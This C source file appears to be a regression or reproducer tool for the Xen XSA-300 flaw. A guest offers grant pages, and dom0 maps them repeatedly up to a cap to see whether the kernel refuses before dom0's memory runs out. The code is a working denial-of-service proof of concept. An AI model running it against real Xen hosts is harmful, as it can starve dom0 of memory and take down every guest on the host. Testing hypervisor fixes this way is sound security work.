// SPDX-License-Identifier: GPL-2.0
/*
 * grants: a guest offers pages to dom0, and dom0 maps them until it is refused.
 *
 * For every grant that a program maps, the kernel takes a page from the balloon,
 * and when that is empty makes the domain smaller to get one.  XSA-300 is that
 * this went on until dom0 had nothing left.
 *
 * Usage:
 *   grants offer COUNT           in a guest: offer COUNT pages to dom0; prints
 *                                  the first reference (they follow each other)
 *                                  and keeps them until it is killed
 *   grants map ID FIRST COUNT MOST
 *                                  in dom0: map those grants of domain ID over
 *                                  and over, at most MOST pages, until refused;
 *                                  prints "PAGES ERROR" (ERROR is "none" when
 *                                  never refused) and keeps them until killed
 *
 * Exit status: 1 usage or a failed call; otherwise it runs until it is killed.
 */
#include <errno.h>
#include <fcntl.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/mman.h>
#include <unistd.h>

#define PAGE_BYTES	4096

/* <xen/gntalloc.h> and <xen/gntdev.h> are in no package that we unpack. */
struct offer {
	uint16_t domid;
	uint16_t flags;
	uint32_t count;
	uint64_t index;
	uint32_t refs[];
};
#define OFFER		_IOC(_IOC_NONE, 'G', 5, 24)
#define OFFER_WRITABLE	1

struct map {
	uint32_t count;
	uint32_t pad;
	uint64_t index;
	struct {
		uint32_t domid;
		uint32_t ref;
	} refs[];
};
#define MAP		_IOC(_IOC_NONE, 'G', 0, 24)

static int fail(const char *what)
{
	fprintf(stderr, "grants: %s: %s\n", what, strerror(errno));
	return 1;
}

/* Say the result and hold what there is until killed. */
static int hold(void)
{
	fflush(stdout);
	while (pause())
		;
	return 0;
}

static int offer(uint32_t count)
{
	struct offer *o = calloc(1, sizeof(*o) + count * sizeof(o->refs[0]));
	int fd = open("/dev/xen/gntalloc", O_RDWR);

	if (!o || fd < 0)
		return fail("/dev/xen/gntalloc");
	o->flags = OFFER_WRITABLE;
	o->count = count;
	if (ioctl(fd, OFFER, o))
		return fail("IOCTL_GNTALLOC_ALLOC_GREF");
	for (uint32_t i = 1; i < count; i++)
		if (o->refs[i] != o->refs[0] + i) {
			errno = EINVAL;
			return fail("the references do not follow each other");
		}
	printf("%u\n", o->refs[0]);
	return hold();
}

static int map(uint32_t domid, uint32_t first, uint32_t count, uint32_t most)
{
	struct map *m = calloc(1, sizeof(*m) + count * sizeof(m->refs[0]));
	int fd = open("/dev/xen/gntdev", O_RDWR);
	uint32_t mapped = 0;

	if (!m || fd < 0)
		return fail("/dev/xen/gntdev");
	m->count = count;
	for (uint32_t i = 0; i < count; i++) {
		m->refs[i].domid = domid;
		m->refs[i].ref = first + i;
	}
	for (errno = 0; mapped < most; mapped += count)
		if (ioctl(fd, MAP, m) ||
		    mmap(NULL, (size_t)count * PAGE_BYTES,
			 PROT_READ | PROT_WRITE, MAP_SHARED, fd,
			 m->index) == MAP_FAILED)
			break;
	printf("%u %s\n", mapped, errno == 0 ? "none" :
	       errno == ENOMEM ? "ENOMEM" : strerror(errno));
	return hold();
}

int main(int argc, char **argv)
{
	if (argc == 3 && !strcmp(argv[1], "offer"))
		return offer(atoi(argv[2]));
	if (argc == 6 && !strcmp(argv[1], "map"))
		return map(atoi(argv[2]), atoi(argv[3]), atoi(argv[4]),
			   atoi(argv[5]));
	fprintf(stderr, "usage: grants offer COUNT | map ID FIRST COUNT MOST\n");
	return 1;
}
